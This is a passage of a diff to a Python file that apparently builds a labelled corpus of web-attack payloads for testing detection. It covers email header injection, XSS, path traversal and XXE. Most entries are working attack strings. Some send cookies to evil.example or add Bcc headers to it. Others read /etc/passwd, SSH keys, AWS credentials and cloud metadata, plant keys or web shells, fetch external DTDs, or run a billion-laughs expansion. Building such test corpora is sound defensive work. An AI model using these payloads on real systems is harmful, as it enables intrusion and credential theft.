+        'mutation { shareArticle(id: 42, to: "friend@example.net\\r\\nBcc: harvest@evil.example") { ok } }',
+        "json",
+        ep="/graphql",
+        doc={"query": MARK},
+    ),
     A('{"to":"a@example.com\\r\\nBcc: b@evil.example"}', "json", param="recipient", ep="/api/referrals"),
     A("a@b.example -C/etc/passwd -X/var/www/html/out.txt", "json", param="from", ep="/api/mail/send"),
     A("info@example.com\r\n\r\nClick https://evil.example/reset to continue", "query", param="reply_to", ep="/contact"),
@@ -1798,7 +3032,13 @@ MAIL = [
     A("=?iso-8859-1?b?%s?=" % _ew, "json", 1, param="name"),
     A("user@example.com\u2028Bcc: ls@evil.example", "json", 1, param="email"),
     A("user@example.com%u000aBcc: u@evil.example", "query", 1, param="email"),
-    A("victim@example.com\r\nBcc: uesc@evil.example", "json", 1, param="recipient", rjrep=[("\\r\\n", "\\u000D\\u000A")]),
+    A(
+        "victim@example.com\r\nBcc: uesc@evil.example",
+        "json",
+        1,
+        param="recipient",
+        rjrep=[("\\r\\n", "\\u000D\\u000A")],
+    ),
     A("victim@example.com\r\n bcc: lower@evil.example", "form", 1, param="email"),
     A("x@example.com\t-X/var/www/html/t.php", "form", 1, param="sender"),
     A("Drafts\r\nA9 STORE 1:* +FLAGS (\\Deleted)", "query", 1, param="mailbox", ep="/webmail/list"),
@@ -1808,14 +3048,30 @@ MAIL = [
     A("Hi\r\nSubject: ok\r\n\r\nbody", "json", 1, param="subject", rjrep=[("\\r\\n\\r\\n", "\\u000d\\n\\r\\u000a")]),
     A("news@example.com\r\nCc: xml@evil.example", "xml", 1, param="from", xmode="ref", ep="/api/legacy/notify"),
     A("victim@example.com\r\nTo: victim2@example.com", "cookie", 1, ck="share_to"),
-    A("=?UTF-8?B?%s?=" % base64.b64encode("Ünïcode\r\nBcc: utf@evil.example".encode()).decode(), "form", 1, param="name"),
+    A(
+        "=?UTF-8?B?%s?=" % base64.b64encode("Ünïcode\r\nBcc: utf@evil.example".encode()).decode(),
+        "form",
+        1,
+        param="name",
+    ),
 ]
 
 # ---------------------------------------------------------------- xss
 CTX["xss"] = dict(
-    eps=["/search", "/comments", "/api/v1/posts", "/profile/update", "/guestbook", "/api/messages", "/product/review", "/error",
-         "/wiki/edit", "/feedback"],
-    params=["q", "comment", "bio", "message", "name", "title", "body", "text", "redirect", "error"])
+    eps=[
+        "/search",
+        "/comments",
+        "/api/v1/posts",
+        "/profile/update",
+        "/guestbook",
+        "/api/messages",
+        "/product/review",
+        "/error",
+        "/wiki/edit",
+        "/feedback",
+    ],
+    params=["q", "comment", "bio", "message", "name", "title", "body", "text", "redirect", "error"],
+)
 
 XSS = [
     A("<script>alert(document.domain)</script>", "query", param="q", ep="/search"),
@@ -1831,21 +3087,56 @@ XSS = [
     A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "form", param="text"),
     A("<input autofocus onfocus=alert(1)>", "query", param="error", ep="/error"),
     A("<video><source onerror=alert(1)>", "json", param="message", ep="/api/messages"),
-    A("<x oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>", "form", param="title"),
-    A("<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>go</button>", "json", param="body", deep=2),
+    A(
+        "<x oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>",
+        "form",
+        param="title",
+    ),
+    A(
+        "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>go</button>",
+        "json",
+        param="body",
+        deep=2,
+    ),
     A('<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(1)">', "query", param="q"),
     A("{{constructor.constructor('alert(1)')()}}", "query", param="q", ep="/search"),
-    A("<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "multipart", mp="field", param="comment", ep="/comments"),
+    A(
+        "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
+        "multipart",
+        mp="field",
+        param="comment",
+        ep="/comments",
+    ),
     A("<svg/onload=fetch('//evil.example/'+document.cookie)>", "header", hdr="Referer", ep="/"),
     A("[click me](javascript:alert(1))", "json", param="content", ep="/wiki/edit"),
-    A('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>', "form", param="body", ep="/guestbook"),
+    A(
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>',
+        "form",
+        param="body",
+        ep="/guestbook",
+    ),
     A("<form><button formaction=javascript:alert(1)>Submit</button></form>", "json", param="signature"),
     A('<object data="javascript:alert(1)">', "query", param="title"),
     A('<base href="//evil.example/">', "form", param="bio", ep="/profile/update"),
     A('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "json", param="description"),
-    A("<svg onload=alert(1)>.png", "multipart", mp="filename", field="attachment", fctype="text/plain", fcontent="hello\n", ep="/api/messages"),
-    A('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n', "multipart",
-      mp="file", fname="logo.svg", fctype="image/svg+xml", field="logo", ep="/profile/update"),
+    A(
+        "<svg onload=alert(1)>.png",
+        "multipart",
+        mp="filename",
+        field="attachment",
+        fctype="text/plain",
+        fcontent="hello\n",
+        ep="/api/messages",
+    ),
+    A(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n',
+        "multipart",
+        mp="file",
+        fname="logo.svg",
+        fctype="image/svg+xml",
+        field="logo",
+        ep="/profile/update",
+    ),
     A("<script src=//evil.example/x.js></script>", "header", hdr="User-Agent", ep="/"),
     A("<img src=1 onerror=prompt(1)>", "xml", param="comment", ep="/api/legacy/comments"),
     A('"><svg onload=alert(2)>', "cookie", ck="username", ep="/profile"),
@@ -1866,17 +3157,39 @@ XSS = [
     A('<iframe src="javas\tcript:alert(1)">', "json", 1, param="html", deep=3),
     A("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "query", 1, param="q"),
     A('<a href="&#106;avascript:alert(1)">profile</a>', "multipart", 1, mp="field", param="website"),
-    A("javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "query", 1, param="redirect"),
+    A(
+        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+        "query",
+        1,
+        param="redirect",
+    ),
     A('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "json", 1, param="content"),
-    A('<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>', "xml", 1, param="description",
-      ep="/api/legacy/comments"),
+    A(
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
+        "xml",
+        1,
+        param="description",
+        ep="/api/legacy/comments",
+    ),
     A('" autofocus onfocus="alert(1)', "query", 1, param="name"),
 ]
 
 # ---------------------------------------------------------------- path traversal
 CTX["path_traversal"] = dict(
-    eps=["/download", "/static", "/api/v1/files", "/view", "/image", "/export", "/docs", "/assets", "/api/attachments", "/report"],
-    params=["file", "path", "name", "doc", "template", "img", "filename", "page", "dir", "lang"])
+    eps=[
+        "/download",
+        "/static",
+        "/api/v1/files",
+        "/view",
+        "/image",
+        "/export",
+        "/docs",
+        "/assets",
+        "/api/attachments",
+        "/report",
+    ],
+    params=["file", "path", "name", "doc", "template", "img", "filename", "page", "dir", "lang"],
+)
 
 TRAV = [
     A("../../../../etc/passwd", "query", param="file", ep="/download"),
@@ -1888,8 +3201,15 @@ TRAV = [
     A("C:\\inetpub\\wwwroot\\web.config", "query", param="name"),
     A("..\\..\\..\\..\\boot.ini", "form", param="file", ep="/export"),
     A("../../app/config/parameters.yml", "path", pre="/static/", ep="/static"),
-    A("../../../../home/app/.ssh/authorized_keys", "multipart", mp="filename", field="file", fctype="text/plain",
-      fcontent="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz attacker@box\n", ep="/api/attachments"),
+    A(
+        "../../../../home/app/.ssh/authorized_keys",
+        "multipart",
+        mp="filename",
+        field="file",
+        fctype="text/plain",
+        fcontent="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz attacker@box\n",
+        ep="/api/attachments",
+    ),
     A("../../../../../root/.bash_history", "json", param="path", ep="/api/v1/files/read"),
     A("/proc/self/cwd/config.py", "query", param="file"),
     A("....//....//....//etc/hosts", "query", param="page"),
@@ -1909,7 +3229,14 @@ TRAV = [
     A('query { file(path: "../../../../etc/machine-id") { content } }', "json", ep="/graphql", doc={"query": MARK}),
     A('{"attachment":"../../../../etc/ssl/private/server.key"}', "json", param="meta", ep="/api/attachments"),
     A("../../../../var/lib/mysql/mysql/user.MYD", "query", param="file", ep="/download"),
-    A("../../../../var/www/html/shell.jsp", "header", hdr="X-File-Name", method="PUT", ep="/api/v1/upload", body=("text/plain", "hello")),
+    A(
+        "../../../../var/www/html/shell.jsp",
+        "header",
+        hdr="X-File-Name",
+        method="PUT",
+        ep="/api/v1/upload",
+        body=("text/plain", "hello"),
+    ),
     # ---- hard
     A("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "query", 1, param="file"),
     A("..%c0%af..%c0%af..%c0%afetc/passwd", "json", 1, param="path"),
@@ -1917,8 +3244,14 @@ TRAV = [
     A("..;/..;/..;/WEB-INF/web.xml", "path", 1, pre="/static/", ep="/static"),
     A("/..;/manager/html", "path", 1, pre="/docs", ep="/docs", raw="/..;/manager/html"),
     A("../../../etc/passwd", "path", 1, pre="/static/", ep="/static", raw=".%2e/.%2e/.%2e/etc/passwd"),
-    A("..\\..\\..\\..\\windows\\system32\\config\\sam", "path", 1, pre="/assets/", ep="/assets",
-      raw="..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
+    A(
+        "..\\..\\..\\..\\windows\\system32\\config\\sam",
+        "path",
+        1,
+        pre="/assets/",
+        ep="/assets",
+        raw="..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam",
+    ),
     A("..%u2216..%u2216etc%u2216passwd", "json", 1, param="file"),
     A("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", "query", 1, param="name"),
     A("..\u2215..\u2215..\u2215etc\u2215shadow", "json", 1, param="filename"),
@@ -1931,125 +3264,394 @@ TRAV = [
     A("..%00/..%00/etc/passwd", "cookie", 1, ck="lang"),
     A("/var/www/images/../../../etc/passwd", "query", 1, param="img", ep="/image"),
     A("..././..././..././etc/passwd", "multipart", 1, mp="field", param="template"),
-    A("..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx", "multipart", 1, mp="filename", field="upload", fctype="text/plain",
-      fcontent="<%@ Page Language=\"C#\" %>\n", ep="/api/attachments"),
+    A(
+        "..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx",
+        "multipart",
+        1,
+        mp="filename",
+        field="upload",
+        fctype="text/plain",
+        fcontent='<%@ Page Language="C#" %>\n',
+        ep="/api/attachments",
+    ),
 ]
 
 # ---------------------------------------------------------------- xxe
 CTX["xxe"] = dict(
-    eps=["/api/xml/import", "/soap/UserService", "/api/v1/orders.xml", "/feeds/import", "/api/legacy/parse", "/xmlrpc.php",
-         "/api/invoices/upload", "/services/ProductCatalog"],
-    params=["xml", "data", "document", "payload", "feed", "content"])
+    eps=[
+        "/api/xml/import",
+        "/soap/UserService",
+        "/api/v1/orders.xml",
+        "/feeds/import",
+        "/api/legacy/parse",
+        "/xmlrpc.php",
+        "/api/invoices/upload",
+        "/services/ProductCatalog",
+    ],
+    params=["xml", "data", "document", "payload", "feed", "content"],
+)
 
 _saml = base64.b64encode(
     b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://203.0.113.9/saml.dtd"> %e;]>'
-    b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"><samlp:Status/></samlp:Response>').decode()
+    b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"><samlp:Status/></samlp:Response>'
+).decode()
 _X = '<?xml version="1.0" encoding="UTF-8"?>\n'
 
 XXE = [
-    A(_X + '<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order>\n  <id>1042</id>\n  <note>&xxe;</note>\n</order>\n',
-      "xml", whole=True, ep="/api/v1/orders.xml"),
-    A(_X + '<!DOCTYPE soap:Envelope [<!ENTITY h SYSTEM "file:///etc/hostname">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n'
-      '  <soap:Body>\n    <GetUser xmlns="urn:users">\n      <username>&h;</username>\n    </GetUser>\n  </soap:Body>\n</soap:Envelope>\n',
-      "xml", whole=True, ep="/soap/UserService", ctype="text/xml; charset=utf-8"),
-    A(_X + '<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd">\n  %remote;\n  %init;\n  %send;\n]>\n<data>4</data>\n',
-      "xml", whole=True),
-    A('<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://198.51.100.7/invoice.dtd">\n<invoice><total>10.00</total></invoice>\n', "xml", whole=True,
-      ep="/api/invoices/upload"),
-    A('<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]>\n'
-      '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="5" y="20">&f;</text></svg>\n', "multipart", mp="file",
-      fname="badge.svg", fctype="image/svg+xml", field="image", ep="/api/v2/avatar"),
-    A('<report xmlns:xi="http://www.w3.org/2001/XInclude">\n  <title>Q4</title>\n  <xi:include parse="text" href="file:///etc/passwd"/>\n</report>\n',
-      "xml", whole=True, ep="/api/reports/import"),
-    A('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
-      ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
-      ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n'
-      ' <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n]>\n<lolz>&lol6;</lolz>\n', "xml", whole=True),
-    A(_X + '<!DOCTYPE config [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<config><name>&src;</name></config>\n',
-      "xml", whole=True, ep="/xmlrpc.php"),
+    A(
+        _X
+        + '<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order>\n  <id>1042</id>\n  <note>&xxe;</note>\n</order>\n',
+        "xml",
+        whole=True,
+        ep="/api/v1/orders.xml",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE soap:Envelope [<!ENTITY h SYSTEM "file:///etc/hostname">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n'
+        '  <soap:Body>\n    <GetUser xmlns="urn:users">\n      <username>&h;</username>\n    </GetUser>\n  </soap:Body>\n</soap:Envelope>\n',
+        "xml",
+        whole=True,
+        ep="/soap/UserService",
+        ctype="text/xml; charset=utf-8",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd">\n  %remote;\n  %init;\n  %send;\n]>\n<data>4</data>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        '<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://198.51.100.7/invoice.dtd">\n<invoice><total>10.00</total></invoice>\n',
+        "xml",
+        whole=True,
+        ep="/api/invoices/upload",
+    ),
+    A(
+        '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]>\n'
+        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="5" y="20">&f;</text></svg>\n',
+        "multipart",
+        mp="file",
+        fname="badge.svg",
+        fctype="image/svg+xml",
+        field="image",
+        ep="/api/v2/avatar",
+    ),
+    A(
+        '<report xmlns:xi="http://www.w3.org/2001/XInclude">\n  <title>Q4</title>\n  <xi:include parse="text" href="file:///etc/passwd"/>\n</report>\n',
+        "xml",
+        whole=True,
+        ep="/api/reports/import",
+    ),
+    A(
+        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
+        ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
+        ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n'
+        ' <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n]>\n<lolz>&lol6;</lolz>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X
+        + '<!DOCTYPE config [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<config><name>&src;</name></config>\n',
+        "xml",
+        whole=True,
+        ep="/xmlrpc.php",
+    ),
     A(_X + '<!DOCTYPE c [<!ENTITY cmd SYSTEM "expect://id">]>\n<c><v>&cmd;</v></c>\n', "xml", whole=True),
-    A(_X + '<!DOCTYPE x [<!ENTITY j SYSTEM "jar:http://203.0.113.9/a.zip!/payload.txt">]>\n<x>&j;</x>\n', "xml", whole=True,
-      ep="/services/ProductCatalog"),
-    A(_X + '<!DOCTYPE x [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]>\n<product><sku>&n;</sku></product>\n', "xml", whole=True,
-      ep="/services/ProductCatalog"),
-    A(_X + '<!DOCTYPE x [<!ENTITY g SYSTEM "gopher://127.0.0.1:25/xHELO%20localhost">]>\n<msg><to>&g;</to></msg>\n', "xml", whole=True),
-    A(_X + '<!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]>\n<r><item>&w;</item></r>\n', "xml", whole=True),
-    A(_X + '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/issue">]>\n<rss version="2.0"><channel><title>News</title>'
-      '<item><title>&e;</title><link>https://blog.example.net/p/1</link></item></channel></rss>\n', "xml", whole=True, ep="/feeds/import"),
-    A(_X + '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
-      ' <file source-language="en" target-language="de" datatype="plaintext" original="ui.strings">\n  <body>\n'
-      '   <trans-unit id="greeting"><source>Hello</source><target>&x;</target></trans-unit>\n  </body>\n </file>\n</xliff>\n',
-      "multipart", mp="file", fname="de.xlf", fctype="application/x-xliff+xml", field="translations", ep="/api/i18n/import"),
-    A(_X + '<!DOCTYPE methodCall [<!ENTITY p SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>&p;</methodName><params/></methodCall>\n',
-      "xml", whole=True, ep="/xmlrpc.php", ctype="text/xml"),
-    A('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a>&x;</a></r>', "json", param="xml", ep="/api/v1/convert"),
-    A('<?xml version="1.0"?><!DOCTYPE q [<!ENTITY s SYSTEM "file:///proc/self/environ">]><query><term>&s;</term></query>', "form",
-      param="xml", ep="/api/legacy/parse"),
-    A('<!DOCTYPE d [<!ENTITY z SYSTEM "file:///etc/os-release">]><d>&z;</d>', "query", param="data", ep="/api/legacy/parse"),
-    A(_X + '<!DOCTYPE u [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<user><bio>&meta;</bio></user>\n',
-      "xml", whole=True),
-    A(_X + '<!DOCTYPE kml [<!ENTITY loc SYSTEM "file:///home/app/.aws/credentials">]>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark>'
-      '<name>&loc;</name><Point><coordinates>13.4,52.5,0</coordinates></Point></Placemark></kml>\n', "multipart", mp="file", fname="route.kml",
-      fctype="application/vnd.google-earth.kml+xml", field="track", ep="/api/maps/import"),
-    A(_X + '<!DOCTYPE m [\n <!ENTITY % file SYSTEM "file:///etc/hostname">\n <!ENTITY % dtd SYSTEM "http://198.51.100.3/ftp.dtd">\n %dtd;\n]>\n<m>1</m>\n',
-      "xml", whole=True, ep="/soap/UserService"),
-    A(_X + '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://203.0.113.9/docbook.dtd">\n<book><title>Manual</title></book>\n',
-      "xml", whole=True),
-    A(_X + '<!DOCTYPE propfind [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&f;</D:displayname></D:prop></D:propfind>\n',
-      "xml", whole=True, method="PROPFIND", ep="/webdav/docs/"),
-    A(_X + '<!DOCTYPE urlset [<!ENTITY s SYSTEM "file:///var/www/.htpasswd">]>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
-      '<url><loc>&s;</loc></url></urlset>\n', "multipart", mp="file", fname="sitemap.xml", fctype="application/xml", field="sitemap",
-      ep="/admin/seo/sitemap"),
-    A('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/">\n'
-      '    <xsl:copy-of select="document(\'/etc/passwd\')"/>\n  </xsl:template>\n</xsl:stylesheet>\n', "multipart", mp="file",
-      fname="transform.xsl", fctype="application/xslt+xml", field="stylesheet", ep="/api/reports/xslt"),
-    A(_X + '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///root/.ssh/id_rsa">]>\n<note><to>ops</to><body>&k;</body></note>\n', "xml", whole=True),
-    A(_X + '<!DOCTYPE p [<!ENTITY i SYSTEM "http://127.0.0.1:8080/manager/text/list">]>\n<p><name>&i;</name></p>\n', "xml", whole=True,
-      ep="/api/xml/import"),
-    A(_X + '<!DOCTYPE cfg [<!ENTITY db SYSTEM "file:///var/www/app/.env">]>\n<settings><theme>dark</theme><footer>&db;</footer></settings>\n',
-      "xml", whole=True, method="PUT", ep="/api/v1/settings.xml"),
-    A(_X + '<!DOCTYPE s [<!ENTITY t SYSTEM "file:///etc/shadow">]>\n<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>'
-      '<Search xmlns="urn:catalog"><q>&t;</q></Search></Body></Envelope>\n', "xml", whole=True, ep="/services/ProductCatalog",
-      ctype="application/soap+xml; charset=utf-8"),
+    A(
+        _X + '<!DOCTYPE x [<!ENTITY j SYSTEM "jar:http://203.0.113.9/a.zip!/payload.txt">]>\n<x>&j;</x>\n',
+        "xml",
+        whole=True,
+        ep="/services/ProductCatalog",
+    ),
+    A(
+        _X + '<!DOCTYPE x [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]>\n<product><sku>&n;</sku></product>\n',
+        "xml",
+        whole=True,
+        ep="/services/ProductCatalog",
+    ),
+    A(
+        _X + '<!DOCTYPE x [<!ENTITY g SYSTEM "gopher://127.0.0.1:25/xHELO%20localhost">]>\n<msg><to>&g;</to></msg>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X + '<!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]>\n<r><item>&w;</item></r>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X + '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/issue">]>\n<rss version="2.0"><channel><title>News</title>'
+        "<item><title>&e;</title><link>https://blog.example.net/p/1</link></item></channel></rss>\n",
+        "xml",
+        whole=True,
+        ep="/feeds/import",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
+        ' <file source-language="en" target-language="de" datatype="plaintext" original="ui.strings">\n  <body>\n'
+        '   <trans-unit id="greeting"><source>Hello</source><target>&x;</target></trans-unit>\n  </body>\n </file>\n</xliff>\n',
+        "multipart",
+        mp="file",
+        fname="de.xlf",
+        fctype="application/x-xliff+xml",
+        field="translations",
+        ep="/api/i18n/import",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE methodCall [<!ENTITY p SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>&p;</methodName><params/></methodCall>\n',
+        "xml",
+        whole=True,
+        ep="/xmlrpc.php",
+        ctype="text/xml",
+    ),
+    A(
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a>&x;</a></r>',
+        "json",
+        param="xml",
+        ep="/api/v1/convert",
+    ),
+    A(
+        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY s SYSTEM "file:///proc/self/environ">]><query><term>&s;</term></query>',
+        "form",
+        param="xml",
+        ep="/api/legacy/parse",
+    ),
+    A(
+        '<!DOCTYPE d [<!ENTITY z SYSTEM "file:///etc/os-release">]><d>&z;</d>',
+        "query",
+        param="data",
+        ep="/api/legacy/parse",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE u [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<user><bio>&meta;</bio></user>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X
+        + '<!DOCTYPE kml [<!ENTITY loc SYSTEM "file:///home/app/.aws/credentials">]>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark>'
+        "<name>&loc;</name><Point><coordinates>13.4,52.5,0</coordinates></Point></Placemark></kml>\n",
+        "multipart",
+        mp="file",
+        fname="route.kml",
+        fctype="application/vnd.google-earth.kml+xml",
+        field="track",
+        ep="/api/maps/import",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE m [\n <!ENTITY % file SYSTEM "file:///etc/hostname">\n <!ENTITY % dtd SYSTEM "http://198.51.100.3/ftp.dtd">\n %dtd;\n]>\n<m>1</m>\n',
+        "xml",
+        whole=True,
+        ep="/soap/UserService",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://203.0.113.9/docbook.dtd">\n<book><title>Manual</title></book>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X
+        + '<!DOCTYPE propfind [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&f;</D:displayname></D:prop></D:propfind>\n',
+        "xml",
+        whole=True,
+        method="PROPFIND",
+        ep="/webdav/docs/",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE urlset [<!ENTITY s SYSTEM "file:///var/www/.htpasswd">]>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
+        "<url><loc>&s;</loc></url></urlset>\n",
+        "multipart",
+        mp="file",
+        fname="sitemap.xml",
+        fctype="application/xml",
+        field="sitemap",
+        ep="/admin/seo/sitemap",
+    ),
+    A(
+        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/">\n'
+        "    <xsl:copy-of select=\"document('/etc/passwd')\"/>\n  </xsl:template>\n</xsl:stylesheet>\n",
+        "multipart",
+        mp="file",
+        fname="transform.xsl",
+        fctype="application/xslt+xml",
+        field="stylesheet",
+        ep="/api/reports/xslt",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///root/.ssh/id_rsa">]>\n<note><to>ops</to><body>&k;</body></note>\n',
+        "xml",
+        whole=True,
+    ),
+    A(
+        _X + '<!DOCTYPE p [<!ENTITY i SYSTEM "http://127.0.0.1:8080/manager/text/list">]>\n<p><name>&i;</name></p>\n',
+        "xml",
+        whole=True,
+        ep="/api/xml/import",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE cfg [<!ENTITY db SYSTEM "file:///var/www/app/.env">]>\n<settings><theme>dark</theme><footer>&db;</footer></settings>\n',
+        "xml",
+        whole=True,
+        method="PUT",
+        ep="/api/v1/settings.xml",
+    ),
+    A(
+        _X
+        + '<!DOCTYPE s [<!ENTITY t SYSTEM "file:///etc/shadow">]>\n<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>'
+        '<Search xmlns="urn:catalog"><q>&t;</q></Search></Body></Envelope>\n',
+        "xml",
+        whole=True,
+        ep="/services/ProductCatalog",
+        ctype="application/soap+xml; charset=utf-8",
+    ),
     # ---- hard
-    A(_X + '<!DOCTYPE e [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n <!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">\n'
-      ' %eval;\n %error;\n]>\n<e>1</e>\n', "xml", 1, whole=True),
